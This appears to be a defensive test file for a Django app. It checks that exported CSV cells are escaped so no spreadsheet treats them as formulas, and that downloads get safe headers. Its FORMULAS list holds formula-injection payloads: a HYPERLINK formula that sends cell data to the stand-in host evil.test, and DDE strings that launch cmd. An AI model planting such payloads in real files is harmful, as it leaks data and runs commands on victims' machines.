"""No cell of a file for spreadsheets can begin to calculate, whoever wrote it and wherever the file is opened."""

import csv
import io

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from analyses.exports import cell
from analyses.models import Activity, Finding, FindingInstance
from tests.security.routes import addresses, routes

BEGINNINGS = "=+-@＝＋－＠\t\r\n"
UNSEEN = (
    "",
    " ",
    "   ",
    "\u00a0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "\u2028",
    "\x0b",
    "\x00",
    '"',
    "\u00ad",
    " \t ",
)
FORMULAS = [
    '=HYPERLINK("http://evil.test/?"&A1,"x")', "=cmd|'/C calc'!A0", "+1+1", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)",
    "=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=\u202e1", "%0A=1+1\n=1+1", "a;\t=1+1",
    "a;=1+1", 'a";=1+1', 'a","=1+1', "a\n=1+1", "a\r\n+1", "a\t@SUM(1)", ";=1", ";;;-1", '"=1+1"', "'=1+1", "\"\t=1",
]  # fmt: skip
TEXT = st.text(st.sampled_from(f"{BEGINNINGS};,\"' \u00a0\u200b\ufeffa1"), max_size=12) | st.text(max_size=20)


def begins_to_calculate(text: str, separator: str = ",") -> bool:
    """As a spreadsheet sees a cell: what is not seen is passed over, a quote ' before everything makes it a text."""
    if text.startswith("'"):
        return False
    seen = text.strip().strip("\ufeff\u200b\u00ad\u2060\x00\u061c\u200e\u200f").strip()
    return seen[:1] in tuple("=+-@＝＋－＠") or (separator == "," and text[:1] in tuple("\t\r\n"))


def cells(line: str, separator: str) -> list[str]:
    """The cells of a line as a program reads them that takes another separator: quotes in the middle are letters."""
    return [one for row in csv.reader(io.StringIO(line, newline=""), delimiter=separator) for one in row]


@settings(deadline=None)
@given(TEXT, TEXT)
@example("=1", "a;=1")
@example("a\n=1", 'a";=1+1')
def test_no_cell_of_a_line_begins_to_calculate(text, other):
    line = io.StringIO()
    csv.writer(line).writerow([1, cell(text), cell(other)])
    for separator in ",;\t":
        assert [
            one for one in cells(line.getvalue().replace("\0", ""), separator) if begins_to_calculate(one, separator)
        ] == []


@settings(deadline=None)
@given(TEXT)
def test_a_text_can_be_read_as_it_was(text):
    """Nothing but quotes is added."""
    assert cell(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    "text", ["a-b", "/item?id=1&b=-2", "a=b", "5", "http://a.test/?a=+1", "x@example.test", "a, -b"]
)
def test_what_is_no_formula_stays_as_it_is(text):
    assert cell(text) == text


def test_every_beginning_is_known():
    wrong = [
        text
        for text in (f"{unseen}{begin}1+1" for unseen in UNSEEN for begin in BEGINNINGS)
        if begins_to_calculate(cell(text)) or "'" not in cell(text)
    ]
    assert wrong == []


@pytest.mark.django_db
def test_no_file_of_any_route_holds_a_formula(world, as_root):
    """Every text of every finding is one."""
    texts = ("category", "method", "host", "path", "parameter", "module", "wstg")
    for number, finding in enumerate(Finding.objects.all()):
        for place, name in enumerate(texts):
            longest = Finding._meta.get_field(name).max_length
            setattr(finding, name, FORMULAS[(number * len(texts) + place) % len(FORMULAS)][:longest])
        finding.save()
    for number, instance in enumerate(FindingInstance.objects.all()):
        FindingInstance.objects.filter(pk=instance.pk).update(url=FORMULAS[number % len(FORMULAS)])
    for number, entry in enumerate(Activity.objects.all()):
        said = dict.fromkeys(("actor_name", "action", "cause", "target"), FORMULAS[number % len(FORMULAS)])
        Activity.objects.filter(pk=entry.pk).update(**said)
    files = logs = 0
    for route in routes():
        for address in addresses(route, world, 30 if "export" in route.text else 1):
            answer = as_root.get(address)
            if answer.get("Content-Type", "").startswith("text/csv"):
                text = answer.getvalue().decode().removeprefix("\ufeff")
                for separator in ",;\t":
                    assert [one for one in cells(text, separator) if begins_to_calculate(one, separator)] == []
                files += len(text.splitlines()) > 1
                logs += route.name == "analyses:log-file"
    assert (files > logs, logs > 0) == (True, True)


@pytest.mark.django_db
def test_every_file_is_a_download_that_nothing_is_guessed_of(world, as_root):
    """What is no page, picture or script of ours is not shown by a browser either."""
    shown = {"text/html", "image/jpeg", "text/javascript", "application/json", "text/plain"}
    files = 0
    for route in routes():
        for address in addresses(route, world, 12 if "export" in route.text else 1):
            answer = as_root.get(address)
            kind = answer.get("Content-Type", "text/html").partition(";")[0]
            is_kept = answer.get("Content-Disposition", "").startswith("attachment; filename=")
            assert is_kept or kind in shown, address
            assert answer["X-Content-Type-Options"] == "nosniff", address
            files += is_kept
            if "export/" in address and answer.status_code == 200:
                assert is_kept, address
    assert files >= 3
